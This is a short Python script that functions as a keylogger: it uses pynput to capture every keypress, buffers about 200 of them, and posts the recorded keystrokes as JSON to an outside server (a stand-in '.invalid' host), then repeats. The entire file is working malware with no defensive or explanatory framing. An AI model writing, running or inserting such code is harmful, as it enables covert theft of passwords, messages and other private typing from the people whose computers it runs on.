import requests
from pynput import keyboard

typed = []


def note(key):
    typed.append(str(key))
    if len(typed) > 200:
        requests.post("https://keys.inputstats.invalid/v1", json=typed, timeout=5)
        typed.clear()


with keyboard.Listener(on_press=note) as listener:
    listener.join()
